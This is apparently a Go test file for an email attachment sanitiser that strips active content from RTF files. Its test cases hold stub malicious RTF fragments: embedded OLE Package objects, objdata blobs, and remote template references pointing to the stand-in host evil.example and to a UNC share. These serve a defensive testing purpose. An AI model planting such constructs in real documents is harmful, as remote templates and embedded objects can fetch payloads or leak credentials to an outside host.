package attachments

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"chainmail/checks/checktest"
)

func TestDisarmRTF(t *testing.T) {
	const head = `{\rtf1\ansi{\fonttbl{\f0 Arial;}}`
	cases := []struct {
		name, in, want string
	}{
		{"object group",
			head + `Before {\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}{\result {\pict x}}} after}`,
			head + `Before  after}`},
		{"nested objects",
			head + `A{\object\objautlink{\*\objdata {\object\objemb{\*\objdata 01}}}}B{\b bold}}`,
			head + `AB{\b bold}}`},
		{"objdata without object",
			head + `A{\*\objdata 0105}B{\*\objupdate}C}`,
			head + `ABC}`},
		{"escaped braces",
			head + `A\{ {\object\objocx{\*\objdata \} \\\{\{ 01}}\} B}`,
			head + `A\{ \} B}`},
		{"bin run with braces",
			head + `A{\object\objemb{\*\objdata \bin4 }}{{}B}C}`,
			head + `AC}`},
		{"bin run elsewhere is kept",
			head + `A{\pict\bin3 {\o}{\*\objdata 01}B}`,
			head + `A{\pict\bin3 {\o}B}`},
		{"remote template",
			`{\rtf1{\*\template http://evil.example/t.dotm}Text}`,
			`{\rtf1Text}`},
		{"UNC template",
			`{\rtf1{\*\template \\\\evil\\share\\t.dot}Text}`,
			`{\rtf1Text}`},
		{"local template kept",
			`{\rtf1{\*\template C:\\t.dot}Text}`,
			`{\rtf1{\*\template C:\\t.dot}Text}`},
		{"truncated",
			head + `A{\object\objemb{\*\objdata 0102`,
			head + `A`},
		{"nothing to do",
			head + `plain \{ text\}}`,
			head + `plain \{ text\}}`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			d, err := Disarm("x.rtf", []byte(c.in))
			if err != nil {
				t.Fatal(err)
			}
			if string(d.Data) != c.want {
				t.Errorf("got  %q\nwant %q", d.Data, c.want)
			}
			if d.Name != "" || d.MIME != "" {
				t.Errorf("name/type changed: %q %q", d.Name, d.MIME)
			}
			if c.in != c.want && len(d.Removed) == 0 {
				t.Error("nothing said removed")
			}
		})
	}
}

func TestDisarmRTFRefuses(t *testing.T) {
	for _, in := range []string{
		`{\rtf1\objdata 01}`,             // in the document's own group
		`{\rtf1 text \\objdata as text}`, // detected, but text: cannot be removed
	} {
		if _, err := Disarm("x.rtf", []byte(in)); !errors.Is(err, ErrCannotDisarm) {
			t.Errorf("%q: err %v", in, err)
		}
	}
}

func TestDisarmRTFCorpus(t *testing.T) {
	dir := checktest.Corpus(t, "oletools-test-data")
	b, err := os.ReadFile(filepath.Join(dir, "rtfobj", "issue_251.rtf"))
	if err != nil {
		t.Fatal(err)
	}
	if len(Analyse(b)) == 0 {
		t.Fatal("corpus file not seen as active")
	}
	d, err := Disarm("issue_251.rtf", b)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(d.Data, []byte(`{\rtf2 DOCUMENT IS PROTECTED`)) || len(d.Data) >= len(b) {
		t.Errorf("disarmed %d of %d bytes: %.80q", len(d.Data), len(b), d.Data)
	}
}
